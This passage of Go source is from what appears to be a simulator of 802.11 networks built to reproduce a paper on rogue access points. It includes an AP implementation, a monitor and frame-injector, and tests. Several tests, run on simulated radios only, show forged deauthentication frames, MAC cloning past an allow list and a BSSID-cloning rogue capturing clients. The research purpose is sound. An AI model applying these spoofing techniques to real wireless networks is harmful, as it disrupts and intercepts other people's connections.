		ap.radio.SetDown(true)
		if ap.beacon != nil {
			ap.beacon.Cancel()
			ap.beacon = nil
		}
		ap.stations = make(map[ethernet.MAC]*stationState)
	} else {
		ap.radio.SetDown(false)
		ap.started = ap.kernel.Now()
		ap.scheduleBeacon()
	}
}

// Down reports whether the AP is currently crashed.
func (ap *AP) Down() bool { return ap.down }

// SuppressBeacons stalls (true) or resumes (false) the beacon generator
// without touching station state — the quiet fault. Probe responses still
// work, so clients that lose the beacon heartbeat recover by actively
// rescanning.
func (ap *AP) SuppressBeacons(on bool) { ap.quiet = on }

// HostNIC returns the AP host's virtual interface (MAC = BSSID). The machine
// running the AP — the CORP gateway or the attacker's laptop — attaches its
// IP stack here.
func (ap *AP) HostNIC() ethernet.NIC { return ap.host }

// AttachUplink bridges the BSS to a wired port (the legitimate AP's LAN
// connection). The AP forwards frames between air and wire preserving
// original source addresses, like any L2 bridge.
func (ap *AP) AttachUplink(p *ethernet.Port) {
	ap.uplink = p
	p.SetPromiscuous(true) // a bridge must see frames for wireless clients
	p.SetReceiver(ap.onUplinkFrame)
}

// AssociatedStations lists currently associated client MACs in ascending
// address order (deterministic regardless of map iteration).
func (ap *AP) AssociatedStations() []ethernet.MAC {
	var out []ethernet.MAC
	for mac, st := range ap.stations {
		if st.associated {
			out = append(out, mac)
		}
	}
	sort.Slice(out, func(i, j int) bool {
		return bytes.Compare(out[i][:], out[j][:]) < 0
	})
	return out
}

// IsAssociated reports whether mac is an associated client.
func (ap *AP) IsAssociated(mac ethernet.MAC) bool {
	st, ok := ap.stations[mac]
	return ok && st.associated
}

func (ap *AP) capability() uint16 {
	c := CapESS
	if ap.cfg.WEPKey != nil {
		c |= CapPrivacy
	}
	return c
}

func (ap *AP) scheduleBeacon() {
	interval := sim.Time(ap.cfg.BeaconIntervalTU) * TU
	ap.beacon = ap.kernel.After(interval, func() {
		ap.sendBeacon()
		ap.scheduleBeacon()
	})
}

func (ap *AP) sendBeacon() {
	if ap.stopped || ap.down {
		return
	}
	if ap.quiet {
		ap.SuppressedBeacons++
		return
	}
	ap.Beacons++
	body := BeaconBody{
		Timestamp:      uint64((ap.kernel.Now() - ap.started) / sim.Microsecond),
		BeaconInterval: ap.cfg.BeaconIntervalTU,
		Capability:     ap.capability(),
		SSID:           ap.cfg.SSID,
		Channel:        byte(ap.cfg.Channel),
	}
	ap.transmit(Frame{
		Type: TypeManagement, Subtype: SubtypeBeacon,
		Addr1: ethernet.BroadcastMAC, Addr2: ap.cfg.BSSID, Addr3: ap.cfg.BSSID,
		Body: body.Marshal(),
	})
}

// macAllowed applies the ACL.
func (ap *AP) macAllowed(mac ethernet.MAC) bool {
	if ap.cfg.MACAllow == nil {
		return true
	}
	for _, m := range ap.cfg.MACAllow {
		if m == mac {
			return true
		}
	}
	return false
}

func (ap *AP) onFrame(f Frame, info phy.RxInfo) {
	if ap.stopped || ap.down {
		return
	}
	// MAC-layer address filter: frames for us or broadcast.
	if f.Addr1 != ap.cfg.BSSID && !f.Addr1.IsBroadcast() {
		return
	}
	switch f.Type {
	case TypeManagement:
		ap.onManagement(f)
	case TypeData:
		ap.onData(f)
	}
}

func (ap *AP) onManagement(f Frame) {
	switch f.Subtype {
	case SubtypeProbeReq:
		body, err := UnmarshalProbeReqBody(f.Body)
		if err != nil {
			return
		}
		if body.SSID != "" && body.SSID != ap.cfg.SSID {
			return
		}
		resp := BeaconBody{
			Timestamp:      uint64((ap.kernel.Now() - ap.started) / sim.Microsecond),
			BeaconInterval: ap.cfg.BeaconIntervalTU,
			Capability:     ap.capability(),
			SSID:           ap.cfg.SSID,
			Channel:        byte(ap.cfg.Channel),
		}
		ap.transmit(Frame{
			Type: TypeManagement, Subtype: SubtypeProbeResp,
			Addr1: f.Addr2, Addr2: ap.cfg.BSSID, Addr3: ap.cfg.BSSID,
			Body: resp.Marshal(),
		})
	case SubtypeAuth:
		ap.onAuth(f)
	case SubtypeAssocReq:
		ap.onAssocReq(f)
	case SubtypeDeauth, SubtypeDisassoc:
		// A client leaving (or a forged frame claiming so).
		if st, ok := ap.stations[f.Addr2]; ok {
			st.associated = false
			if f.Subtype == SubtypeDeauth {
				st.authenticated = false
			}
		}
	}
}

func (ap *AP) onAuth(f Frame) {
	sta := f.Addr2
	reject := func(alg, seq, status uint16) {
		ap.AuthRejects++
		body := AuthBody{Algorithm: alg, Seq: seq, Status: status}
		ap.transmit(Frame{
			Type: TypeManagement, Subtype: SubtypeAuth,
			Addr1: sta, Addr2: ap.cfg.BSSID, Addr3: ap.cfg.BSSID,
			Body: body.Marshal(),
		})
	}
	// Shared-key message 3 arrives WEP-sealed.
	var body AuthBody
	var err error
	if f.Protected {
		if ap.cfg.WEPKey == nil {
			return
		}
		plain, werr := wep.Open(ap.cfg.WEPKey, f.Body)
		if werr != nil {
			ap.ICVFailures++
			reject(AuthSharedKey, 4, StatusChallengeFail)
			return
		}
		body, err = UnmarshalAuthBody(plain)
	} else {
		body, err = UnmarshalAuthBody(f.Body)
	}
	if err != nil {
		return
	}
	if !ap.macAllowed(sta) {
		reject(body.Algorithm, body.Seq+1, StatusUnauthorized)
		return
	}
	st := ap.stations[sta]
	if st == nil {
		st = &stationState{}
		ap.stations[sta] = st
	}
	switch {
	case body.Algorithm == AuthOpen && body.Seq == 1:
		st.authenticated = true
		resp := AuthBody{Algorithm: AuthOpen, Seq: 2, Status: StatusSuccess}
		ap.transmit(Frame{
			Type: TypeManagement, Subtype: SubtypeAuth,
			Addr1: sta, Addr2: ap.cfg.BSSID, Addr3: ap.cfg.BSSID,
			Body: resp.Marshal(),
		})
	case body.Algorithm == AuthSharedKey && body.Seq == 1:
		if ap.cfg.WEPKey == nil {
			reject(AuthSharedKey, 2, StatusAuthAlgMismatch)
			return
		}
		st.challenge = make([]byte, 128)
		ap.rng.Bytes(st.challenge)
		resp := AuthBody{Algorithm: AuthSharedKey, Seq: 2, Status: StatusSuccess, Challenge: st.challenge}
		ap.transmit(Frame{
			Type: TypeManagement, Subtype: SubtypeAuth,
			Addr1: sta, Addr2: ap.cfg.BSSID, Addr3: ap.cfg.BSSID,
			Body: resp.Marshal(),
		})
	case body.Algorithm == AuthSharedKey && body.Seq == 3:
		if st.challenge == nil || !bytes.Equal(body.Challenge, st.challenge) {
			reject(AuthSharedKey, 4, StatusChallengeFail)
			return
		}
		st.challenge = nil
		st.authenticated = true
		resp := AuthBody{Algorithm: AuthSharedKey, Seq: 4, Status: StatusSuccess}
		ap.transmit(Frame{
			Type: TypeManagement, Subtype: SubtypeAuth,
			Addr1: sta, Addr2: ap.cfg.BSSID, Addr3: ap.cfg.BSSID,
			Body: resp.Marshal(),
		})
	}
}

func (ap *AP) onAssocReq(f Frame) {
	sta := f.Addr2
	st := ap.stations[sta]
	status := StatusSuccess
	body, err := UnmarshalAssocReqBody(f.Body)
	if err != nil {
		return
	}
	switch {
	case st == nil || !st.authenticated:
		status = StatusUnauthorized
	case body.SSID != ap.cfg.SSID:
		status = StatusUnspecified
	}
	var aid uint16
	if status == StatusSuccess {
		ap.nextAID++
		aid = ap.nextAID
		st.associated = true
		st.aid = aid
		ap.Associations++
	}
	resp := AssocRespBody{Capability: ap.capability(), Status: status, AID: aid}
	ap.transmit(Frame{
		Type: TypeManagement, Subtype: SubtypeAssocResp,
		Addr1: sta, Addr2: ap.cfg.BSSID, Addr3: ap.cfg.BSSID,
		Body: resp.Marshal(),
	})
	if status == StatusSuccess && ap.OnAssociate != nil {
		ap.OnAssociate(sta)
	}
}

// Deauth expels a station (management action, also usable for housekeeping).
func (ap *AP) Deauth(sta ethernet.MAC, reason uint16) {
	if st, ok := ap.stations[sta]; ok {
		st.associated = false
		st.authenticated = false
	}
	body := ReasonBody{Reason: reason}
	ap.transmit(Frame{
		Type: TypeManagement, Subtype: SubtypeDeauth,
		Addr1: sta, Addr2: ap.cfg.BSSID, Addr3: ap.cfg.BSSID,
		Body: body.Marshal(),
	})
}

// onData handles station → DS traffic.
func (ap *AP) onData(f Frame) {
	if !f.ToDS || f.FromDS {
		return
	}
	st, ok := ap.stations[f.Addr2]
	if !ok || !st.associated {
		// Class-3 frame from a non-associated station.
		ap.Class3Errors++
		ap.Deauth(f.Addr2, ReasonClass3NotAssoc)
		return
	}
	body := f.Body
	var pb *pkt.Buf // decrypt buffer; ownership passes to bridge
	if ap.cfg.WEPKey != nil {
		if !f.Protected {
			ap.UnprotectedDrops++
			return
		}
		pb = ap.kernel.BufPool().GetCopy(body)
		if err := wep.OpenInPlace(ap.cfg.WEPKey, pb); err != nil {
			ap.ICVFailures++
			pb.Release()
			return
		}
		body = pb.Bytes()
	} else if f.Protected {
		return // we have no key to decrypt with
	}
	t, payload, err := DecapsulateLLC(body)
	if err != nil {
		if pb != nil {
			pb.Release()
		}
		return
	}
	if pb != nil {
		pb.Pop(LLCLen) // the buffer's view becomes the inner payload
	}
	src, dst := f.Addr2, f.Addr3
	if ap.PortGate != nil && !ap.PortGate(src, t) {
		ap.GateDrops++
		if pb != nil {
			pb.Release()
		}
		return
	}
	ap.bridge(src, dst, t, payload, fromAir, pb)
}

// onUplinkFrame handles wire → BSS traffic. The frame's payload is a
// transient view (the port releases its buffer after this returns), so the
// bridge gets no owned buffer: air forwarding copies.
func (ap *AP) onUplinkFrame(f ethernet.Frame) {
	if ap.stopped || ap.down {
		return
	}
	ap.bridge(f.Src, f.Dst, f.Type, f.Payload, fromWire, nil)
}

// hostSend handles host-stack → BSS/wire traffic.
func (ap *AP) hostSend(dst ethernet.MAC, t ethernet.EtherType, payload []byte) {
	ap.bridge(ap.cfg.BSSID, dst, t, payload, fromHost, nil)
}

// hostSendBuf is the zero-copy host path: the bridge takes ownership of pb
// and, when the frame only goes to the air, encapsulates it in place.
//
//simvet:owner transfer forwards pb to bridge, which settles it on every path
func (ap *AP) hostSendBuf(dst ethernet.MAC, t ethernet.EtherType, pb *pkt.Buf) {
	ap.bridge(ap.cfg.BSSID, dst, t, pb.Bytes(), fromHost, pb)
}

type bridgeOrigin int

const (
	fromAir bridgeOrigin = iota
	fromWire
	fromHost
)

// bridge implements the AP's three-way L2 forwarding. payload is the frame
// body; owned, when non-nil, is the buffer payload views, and the bridge
// takes ownership of it (releasing it unless it is handed whole to the air
// path). The toHost → toAir → toWire order is load-bearing: delivery event
// sequence numbers — and therefore the trace digest — depend on it.
//
//simvet:owner transfer owns the optional buffer: releases it or hands it whole to the air path
func (ap *AP) bridge(src, dst ethernet.MAC, t ethernet.EtherType, payload []byte, origin bridgeOrigin, owned *pkt.Buf) {
	toHost := dst == ap.cfg.BSSID || dst.IsMulticast()
	toAir := dst.IsMulticast() || ap.IsAssociated(dst)
	toWire := ap.uplink != nil && (dst.IsMulticast() || (!toAir && dst != ap.cfg.BSSID))
	airSend := toAir && origin != fromAir || (toAir && dst.IsMulticast() && origin == fromAir)
	wireSend := toWire && origin != fromWire

	if toHost && origin != fromHost && ap.host.recv != nil {
		ap.host.recv(ethernet.Frame{Dst: dst, Src: src, Type: t, Payload: payload})
	}
	if airSend {
		if owned != nil && !wireSend {
			// Sole remaining consumer: encapsulate in place. When the wire
			// path still needs the cleartext bytes we must not seal over
			// them, so that case falls through to the copying path.
			ap.sendToAirBuf(src, dst, t, owned)
			owned = nil
		} else {
			ap.sendToAir(src, dst, t, payload)
		}
	}
	if wireSend {
		ap.uplink.Transmit(ethernet.Frame{Dst: dst, Src: src, Type: t, Payload: payload})
	}
	if owned != nil {
		owned.Release()
	}
}

// sendToAir transmits a FromDS data frame into the BSS, copying the payload
// into a pooled buffer.
func (ap *AP) sendToAir(src, dst ethernet.MAC, t ethernet.EtherType, payload []byte) {
	ap.sendToAirBuf(src, dst, t, ap.kernel.BufPool().GetCopy(payload))
}

// sendToAirBuf transmits a FromDS data frame, encapsulating in place (LLC,
// optional WEP, MAC header pushed into pb's headroom). Takes ownership of pb.
//
//simvet:owner transfer encapsulates in place and forwards pb to the transmit queue
func (ap *AP) sendToAirBuf(src, dst ethernet.MAC, t ethernet.EtherType, pb *pkt.Buf) {
	putLLC(pb.Push(LLCLen), t)
	protected := false
	if ap.cfg.WEPKey != nil {
		wep.SealInPlace(ap.cfg.WEPKey, ap.cfg.IVSource.NextIV(), 0, pb)
		protected = true
	}
	ap.transmitBuf(Frame{
		Type: TypeData, Subtype: SubtypeDataFrame, FromDS: true, Protected: protected,
		Addr1: dst, Addr2: ap.cfg.BSSID, Addr3: src,
	}, pb)
}

// apHostNIC is the AP host's virtual interface.
type apHostNIC struct {
	ap   *AP
	recv ethernet.Receiver
}

func (n *apHostNIC) HWAddr() ethernet.MAC            { return n.ap.cfg.BSSID }
func (n *apHostNIC) MTU() int                        { return ethernet.DefaultMTU }
func (n *apHostNIC) SetReceiver(r ethernet.Receiver) { n.recv = r }
func (n *apHostNIC) Send(dst ethernet.MAC, t ethernet.EtherType, payload []byte) {
	n.ap.hostSend(dst, t, payload)
}
func (n *apHostNIC) SendBuf(dst ethernet.MAC, t ethernet.EtherType, pb *pkt.Buf) {
	n.ap.hostSendBuf(dst, t, pb)
}

var _ ethernet.NIC = (*apHostNIC)(nil)
