package dot11

import (
	"repro/internal/ethernet"
	"repro/internal/phy"
	"repro/internal/sim"
)

// Monitor is a radio in monitor (rfmon) mode: it parses and reports every
// frame decodable on its channel, with no address filtering and no
// transmission. This is the sniffer the paper's attacker uses to harvest
// MAC addresses and WEP traffic, and the sensor the defender's rogue
// detector runs on.
type Monitor struct {
	radio *phy.Radio
	// OnFrame receives every decoded frame along with PHY metadata.
	OnFrame func(f Frame, info phy.RxInfo)

	// Frames counts everything decoded; ParseErrors counts undecodable
	// received buffers.
	Frames      uint64
	ParseErrors uint64
}

// NewMonitor puts a radio in monitor mode on its current channel.
func NewMonitor(radio *phy.Radio) *Monitor {
	m := &Monitor{radio: radio}
	radio.SetReceiver(func(raw []byte, info phy.RxInfo) {
		f, err := Unmarshal(raw)
		if err != nil {
			m.ParseErrors++
			return
		}
		m.Frames++
		if m.OnFrame != nil {
			m.OnFrame(f, info)
		}
	})
	return m
}

// SetChannel retunes the monitor (channel hopping).
func (m *Monitor) SetChannel(c phy.Channel) { m.radio.SetChannel(c) }

// Channel reports the monitored channel.
func (m *Monitor) Channel() phy.Channel { return m.radio.Channel() }

// Injector is a raw-frame transmitter: monitor mode's evil twin, used by the
// attack package to spoof management frames (e.g. forged deauths) with
// arbitrary source addresses.
type Injector struct {
	*entity
}

// NewInjector wraps a radio for raw frame injection. Injectors have no MAC
// identity: they never wait for link-layer ACKs (fire-and-forget spoofing).
func NewInjector(k *sim.Kernel, radio *phy.Radio, rate phy.Rate) *Injector {
	return &Injector{entity: newEntity(k, radio, rate, ethernet.MAC{})}
}

// Inject transmits a frame, assigning the injector's own sequence number.
func (i *Injector) Inject(f Frame) { i.transmit(f) }

// InjectRaw transmits a frame without touching its sequence number, for
// spoofing specific sequence-control values.
func (i *Injector) InjectRaw(f Frame) { i.enqueue(f) }

// SetChannel retunes the injector.
func (i *Injector) SetChannel(c phy.Channel) { i.radio.SetChannel(c) }
