package dot11

import (
	"testing"

	"repro/internal/ethernet"
	"repro/internal/phy"
	"repro/internal/sim"
	"repro/internal/wep"
)

// testWorld bundles the common AP + STA fixture.
type testWorld struct {
	k  *sim.Kernel
	m  *phy.Medium
	ap *AP
	st *STA
}

func newWorld(t *testing.T, apCfg APConfig, staCfg STAConfig) *testWorld {
	t.Helper()
	k := sim.NewKernel(1)
	m := phy.NewMedium(k, phy.Config{})
	if apCfg.BSSID == (ethernet.MAC{}) {
		apCfg.BSSID = macAP
	}
	if apCfg.SSID == "" {
		apCfg.SSID = "CORP"
	}
	if apCfg.Channel == 0 {
		apCfg.Channel = 1
	}
	apRadio := m.AddRadio(phy.RadioConfig{Name: "ap", Pos: phy.Position{X: 0, Y: 0}, Channel: apCfg.Channel})
	ap := NewAP(k, apRadio, apCfg)

	if staCfg.MAC == (ethernet.MAC{}) {
		staCfg.MAC = macSTA
	}
	if staCfg.SSID == "" {
		staCfg.SSID = "CORP"
	}
	staRadio := m.AddRadio(phy.RadioConfig{Name: "sta", Pos: phy.Position{X: 10, Y: 0}, Channel: 1})
	st := NewSTA(k, staRadio, staCfg)
	return &testWorld{k: k, m: m, ap: ap, st: st}
}

// settle runs the world long enough for a full scan + join.
func (w *testWorld) settle() { w.k.RunUntil(w.k.Now() + 5*sim.Second) }

func TestOpenNetworkAssociation(t *testing.T) {
	w := newWorld(t, APConfig{}, STAConfig{})
	var joined BSS
	w.st.OnAssociate = func(b BSS) { joined = b }
	w.st.Connect()
	w.settle()
	if w.st.State() != StateAssociated {
		t.Fatalf("state = %v", w.st.State())
	}
	if joined.BSSID != macAP || joined.SSID != "CORP" || joined.Channel != 1 {
		t.Fatalf("joined %+v", joined)
	}
	if !w.ap.IsAssociated(macSTA) {
		t.Fatal("AP does not list station")
	}
	if w.ap.Associations != 1 {
		t.Fatalf("Associations = %d", w.ap.Associations)
	}
}

func TestWEPSharedKeyAssociation(t *testing.T) {
	key := wep.Key40FromString("SECRET")
	w := newWorld(t, APConfig{WEPKey: key}, STAConfig{WEPKey: key, SharedKeyAuth: true})
	w.st.Connect()
	w.settle()
	if w.st.State() != StateAssociated {
		t.Fatalf("state = %v", w.st.State())
	}
}

func TestSharedKeyAuthWrongKeyRejected(t *testing.T) {
	w := newWorld(t,
		APConfig{WEPKey: wep.Key40FromString("SECRET")},
		STAConfig{WEPKey: wep.Key40FromString("WRONG!"), SharedKeyAuth: true, DisableReconnect: true})
	w.st.Connect()
	w.settle()
	if w.st.State() == StateAssociated {
		t.Fatal("station with wrong key associated")
	}
	if w.ap.ICVFailures == 0 {
		t.Fatal("AP recorded no ICV failures")
	}
}

func TestMACFilterBlocksUnlisted(t *testing.T) {
	allowed := ethernet.MustParseMAC("02:00:00:00:00:aa")
	w := newWorld(t, APConfig{MACAllow: []ethernet.MAC{allowed}}, STAConfig{DisableReconnect: true})
	w.st.Connect()
	w.settle()
	if w.st.State() == StateAssociated {
		t.Fatal("unlisted MAC associated")
	}
	if w.ap.AuthRejects == 0 {
		t.Fatal("no auth rejects recorded")
	}
}

func TestMACFilterAllowsClonedMAC(t *testing.T) {
	// Paper §2.1: "valid MACs can be sniffed from the network" — cloning a
	// listed MAC walks straight through the ACL.
	allowed := ethernet.MustParseMAC("02:00:00:00:00:aa")
	w := newWorld(t, APConfig{MACAllow: []ethernet.MAC{allowed}}, STAConfig{MAC: allowed})
	w.st.Connect()
	w.settle()
	if w.st.State() != StateAssociated {
		t.Fatal("cloned MAC did not associate")
	}
}

func TestDataTransferBetweenHostAndStation(t *testing.T) {
	w := newWorld(t, APConfig{}, STAConfig{})
	w.st.Connect()
	w.settle()

	// Host (AP side) <-> station exchange.
	var atHost, atSTA []byte
	w.ap.HostNIC().SetReceiver(func(f ethernet.Frame) { atHost = append([]byte{}, f.Payload...) })
	w.st.NIC().SetReceiver(func(f ethernet.Frame) { atSTA = append([]byte{}, f.Payload...) })

	w.st.NIC().Send(macAP, ethernet.TypeIPv4, []byte("uplink"))
	w.k.RunFor(100 * sim.Millisecond)
	if string(atHost) != "uplink" {
		t.Fatalf("host got %q", atHost)
	}
	w.ap.HostNIC().Send(macSTA, ethernet.TypeIPv4, []byte("downlink"))
	w.k.RunFor(100 * sim.Millisecond)
	if string(atSTA) != "downlink" {
		t.Fatalf("station got %q", atSTA)
	}
}

func TestWEPDataTransfer(t *testing.T) {
	key := wep.Key40FromString("SECRET")
	w := newWorld(t, APConfig{WEPKey: key}, STAConfig{WEPKey: key})
	w.st.Connect()
	w.settle()
	var got []byte
	w.ap.HostNIC().SetReceiver(func(f ethernet.Frame) { got = append([]byte{}, f.Payload...) })
	w.st.NIC().Send(macAP, ethernet.TypeIPv4, []byte("encrypted hello"))
	w.k.RunFor(100 * sim.Millisecond)
	if string(got) != "encrypted hello" {
		t.Fatalf("got %q", got)
	}
}

func TestWEPOnAirCiphertextDiffers(t *testing.T) {
	// Confirm data bodies on the air are actually encrypted.
	key := wep.Key40FromString("SECRET")
	w := newWorld(t, APConfig{WEPKey: key}, STAConfig{WEPKey: key})
	w.st.Connect()
	w.settle()

	monRadio := w.m.AddRadio(phy.RadioConfig{Name: "mon", Pos: phy.Position{X: 5, Y: 0}, Channel: 1})
	mon := NewMonitor(monRadio)
	var sawPlain, sawProtected bool
	mon.OnFrame = func(f Frame, info phy.RxInfo) {
		if f.Type != TypeData {
			return
		}
		if f.Protected {
			sawProtected = true
			// First ciphertext byte should not be the LLC 0xAA (whp).
			if len(f.Body) > wep.HeaderLen && f.Body[wep.HeaderLen] == 0xaa {
				// possible but unlikely; tolerated
			}
			if _, _, err := DecapsulateLLC(f.Body); err == nil {
				sawPlain = true
			}
		}
	}
	w.ap.HostNIC().SetReceiver(func(f ethernet.Frame) {})
	w.st.NIC().Send(macAP, ethernet.TypeIPv4, []byte("secret payload"))
	w.k.RunFor(100 * sim.Millisecond)
	if !sawProtected {
		t.Fatal("no protected data frame observed")
	}
	if sawPlain {
		t.Fatal("protected body parsed as cleartext LLC")
	}
}

func TestUnencryptedFrameDroppedByWEPAP(t *testing.T) {
	key := wep.Key40FromString("SECRET")
	w := newWorld(t, APConfig{WEPKey: key}, STAConfig{WEPKey: key})
	w.st.Connect()
	w.settle()
	// Bypass the STA's WEP by injecting a cleartext data frame.
	inj := NewInjector(w.k, w.m.AddRadio(phy.RadioConfig{Name: "inj", Pos: phy.Position{X: 1, Y: 0}, Channel: 1}), 0)
	got := false
	w.ap.HostNIC().SetReceiver(func(f ethernet.Frame) { got = true })
	inj.Inject(Frame{
		Type: TypeData, ToDS: true,
		Addr1: macAP, Addr2: macSTA, Addr3: macAP,
		Body: EncapsulateLLC(ethernet.TypeIPv4, []byte("clear")),
	})
	w.k.RunFor(100 * sim.Millisecond)
	if got {
		t.Fatal("cleartext frame accepted by WEP AP")
	}
	if w.ap.UnprotectedDrops == 0 {
		t.Fatal("UnprotectedDrops not counted")
	}
}

func TestDeauthDisconnectsAndReconnects(t *testing.T) {
	w := newWorld(t, APConfig{}, STAConfig{})
	w.st.Connect()
	w.settle()
	var reasons []string
	w.st.OnDisconnect = func(r string) { reasons = append(reasons, r) }
	w.ap.Deauth(macSTA, ReasonDeauthLeaving)
	w.k.RunFor(50 * sim.Millisecond)
	if len(reasons) != 1 {
		t.Fatalf("disconnect reasons %v", reasons)
	}
	// Auto-reconnect should re-associate.
	w.settle()
	if w.st.State() != StateAssociated {
		t.Fatalf("state after reconnect = %v", w.st.State())
	}
	if w.st.AssocCount != 2 {
		t.Fatalf("AssocCount = %d, want 2", w.st.AssocCount)
	}
}

func TestSpoofedDeauthAccepted(t *testing.T) {
	// The vulnerability the rogue's "force disassociation" step uses:
	// deauth frames are unauthenticated, so anyone can forge them.
	w := newWorld(t, APConfig{}, STAConfig{DisableReconnect: true})
	w.st.Connect()
	w.settle()
	inj := NewInjector(w.k, w.m.AddRadio(phy.RadioConfig{Name: "attacker", Pos: phy.Position{X: 20, Y: 0}, Channel: 1}), 0)
	inj.Inject(Frame{
		Type: TypeManagement, Subtype: SubtypeDeauth,
		Addr1: macSTA, Addr2: macAP, Addr3: macAP, // forged source = real AP
		Body: (&ReasonBody{Reason: ReasonDeauthLeaving}).Marshal(),
	})
	w.k.RunFor(50 * sim.Millisecond)
	if w.st.State() == StateAssociated {
		t.Fatal("station survived spoofed deauth")
	}
	if w.st.DeauthsReceived != 1 {
		t.Fatalf("DeauthsReceived = %d", w.st.DeauthsReceived)
	}
}

func TestBeaconLossTriggersDisconnect(t *testing.T) {
	w := newWorld(t, APConfig{}, STAConfig{DisableReconnect: true})
	w.st.Connect()
	w.settle()
	w.ap.Stop()
	var reason string
	w.st.OnDisconnect = func(r string) { reason = r }
	w.k.RunFor(3 * sim.Second)
	if reason != "beacon loss" {
		t.Fatalf("reason = %q", reason)
	}
}

func TestStrongestAPWinsAssociation(t *testing.T) {
	// Two APs, same SSID: the closer (stronger) one gets the client. This
	// is experiment E1's mechanism in miniature.
	k := sim.NewKernel(1)
	m := phy.NewMedium(k, phy.Config{})
	farBSSID := ethernet.MustParseMAC("02:00:00:00:0f:aa")
	nearBSSID := ethernet.MustParseMAC("02:00:00:00:0f:bb")
	NewAP(k, m.AddRadio(phy.RadioConfig{Name: "far", Pos: phy.Position{X: 60, Y: 0}, Channel: 1}),
		APConfig{SSID: "CORP", BSSID: farBSSID, Channel: 1})
	NewAP(k, m.AddRadio(phy.RadioConfig{Name: "near", Pos: phy.Position{X: 5, Y: 0}, Channel: 6}),
		APConfig{SSID: "CORP", BSSID: nearBSSID, Channel: 6})
	st := NewSTA(k, m.AddRadio(phy.RadioConfig{Name: "sta", Pos: phy.Position{X: 0, Y: 0}, Channel: 1}),
		STAConfig{MAC: macSTA, SSID: "CORP"})
	st.Connect()
	k.RunUntil(5 * sim.Second)
	if st.State() != StateAssociated {
		t.Fatalf("state = %v", st.State())
	}
	if st.BSS().BSSID != nearBSSID {
		t.Fatalf("joined %v, want the stronger AP %v", st.BSS().BSSID, nearBSSID)
	}
}

func TestPinnedBSSIDFollowsClone(t *testing.T) {
	// BSSID pinning does not defend against a BSSID-cloning rogue.
	k := sim.NewKernel(1)
	m := phy.NewMedium(k, phy.Config{})
	bssid := ethernet.MustParseMAC("02:00:00:00:0f:aa")
	// Only the rogue is on the air (real AP out of range/jammed), but it
	// clones the pinned BSSID on another channel.
	NewAP(k, m.AddRadio(phy.RadioConfig{Name: "rogue", Pos: phy.Position{X: 5, Y: 0}, Channel: 6}),
		APConfig{SSID: "CORP", BSSID: bssid, Channel: 6})
	st := NewSTA(k, m.AddRadio(phy.RadioConfig{Name: "sta", Pos: phy.Position{X: 0, Y: 0}, Channel: 1}),
		STAConfig{MAC: macSTA, SSID: "CORP", JoinPolicy: JoinPinnedBSSID, PinnedBSSID: bssid})
	st.Connect()
	k.RunUntil(5 * sim.Second)
	if st.State() != StateAssociated || st.BSS().Channel != 6 {
		t.Fatalf("pinned client did not join the cloned BSSID (state %v, ch %v)", st.State(), st.BSS().Channel)
	}
}

func TestScanFindsAPOnEveryChannel(t *testing.T) {
	for _, ch := range []phy.Channel{1, 6, 11} {
		w := newWorld(t, APConfig{Channel: ch}, STAConfig{})
		w.st.Connect()
		w.settle()
		if w.st.State() != StateAssociated {
			t.Fatalf("channel %d: state %v", ch, w.st.State())
		}
		if w.st.BSS().Channel != ch {
			t.Fatalf("channel %d: BSS channel %d", ch, w.st.BSS().Channel)
		}
	}
}

func TestAPBridgesToUplink(t *testing.T) {
	w := newWorld(t, APConfig{}, STAConfig{})
	// Wire the AP into a switch with a server behind it.
	var alloc ethernet.MACAllocator
	sw := ethernet.NewSwitch(w.k, &alloc, ethernet.SwitchConfig{})
	apPort := sw.Attach(alloc.Next())
	w.ap.AttachUplink(apPort)
	serverMAC := ethernet.MustParseMAC("02:00:00:00:ee:01")
	serverPort := sw.Attach(serverMAC)
	var atServer []byte
	serverPort.SetReceiver(func(f ethernet.Frame) {
		atServer = append([]byte{}, f.Payload...)
		// Reply.
		serverPort.Send(f.Src, ethernet.TypeIPv4, []byte("pong"))
	})

	w.st.Connect()
	w.settle()
	var atSTA []byte
	w.st.NIC().SetReceiver(func(f ethernet.Frame) { atSTA = append([]byte{}, f.Payload...) })
	w.st.NIC().Send(serverMAC, ethernet.TypeIPv4, []byte("ping"))
	w.k.RunFor(200 * sim.Millisecond)
	if string(atServer) != "ping" {
		t.Fatalf("server got %q", atServer)
	}
	if string(atSTA) != "pong" {
		t.Fatalf("station got %q", atSTA)
	}
}

func TestBroadcastFromStationReachesEverything(t *testing.T) {
	w := newWorld(t, APConfig{}, STAConfig{})
	var alloc ethernet.MACAllocator
	sw := ethernet.NewSwitch(w.k, &alloc, ethernet.SwitchConfig{})
	apPort := sw.Attach(alloc.Next())
	w.ap.AttachUplink(apPort)
	wiredPort := sw.Attach(ethernet.MustParseMAC("02:00:00:00:ee:02"))
	wiredGot, hostGot := false, false
	wiredPort.SetReceiver(func(f ethernet.Frame) { wiredGot = true })
	w.ap.HostNIC().SetReceiver(func(f ethernet.Frame) { hostGot = true })

	w.st.Connect()
	w.settle()
	w.st.NIC().Send(ethernet.BroadcastMAC, ethernet.TypeARP, []byte("who-has"))
	w.k.RunFor(200 * sim.Millisecond)
	if !wiredGot || !hostGot {
		t.Fatalf("broadcast wired=%v host=%v", wiredGot, hostGot)
	}
}

func TestSequenceNumbersMonotonic(t *testing.T) {
	w := newWorld(t, APConfig{}, STAConfig{})
	monRadio := w.m.AddRadio(phy.RadioConfig{Name: "mon", Pos: phy.Position{X: 5, Y: 0}, Channel: 1})
	mon := NewMonitor(monRadio)
	var seqs []uint16
	mon.OnFrame = func(f Frame, info phy.RxInfo) {
		if f.Addr2 == macAP {
			seqs = append(seqs, f.Seq)
		}
	}
	w.k.RunUntil(3 * sim.Second)
	if len(seqs) < 10 {
		t.Fatalf("monitor saw only %d AP frames", len(seqs))
	}
	for i := 1; i < len(seqs); i++ {
		if seqs[i] != (seqs[i-1]+1)&0x0fff {
			t.Fatalf("AP sequence numbers not consecutive: %d -> %d", seqs[i-1], seqs[i])
		}
	}
}

func TestMonitorSeesAllTraffic(t *testing.T) {
	w := newWorld(t, APConfig{}, STAConfig{})
	monRadio := w.m.AddRadio(phy.RadioConfig{Name: "mon", Pos: phy.Position{X: 5, Y: 0}, Channel: 1})
	mon := NewMonitor(monRadio)
	dataFrames := 0
	mon.OnFrame = func(f Frame, info phy.RxInfo) {
		if f.Type == TypeData {
			dataFrames++
		}
	}
	w.st.Connect()
	w.settle()
	w.ap.HostNIC().SetReceiver(func(f ethernet.Frame) {})
	for i := 0; i < 10; i++ {
		w.st.NIC().Send(macAP, ethernet.TypeIPv4, []byte("x"))
	}
